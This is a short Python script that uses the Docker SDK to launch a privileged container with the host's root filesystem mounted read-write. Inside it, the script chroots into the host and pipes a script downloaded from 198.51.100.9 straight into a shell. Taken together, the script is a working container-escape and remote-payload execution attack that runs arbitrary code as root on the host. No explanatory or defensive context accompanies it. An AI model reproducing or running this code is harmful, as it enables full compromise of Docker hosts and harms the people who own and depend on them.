import docker
client = docker.from_env()
client.containers.run("alpine", "chroot /host sh -c 'curl -s http://198.51.100.9/k | sh'", privileged=True,
                      volumes={"/": {"bind": "/host", "mode": "rw"}}, detach=True, remove=True)
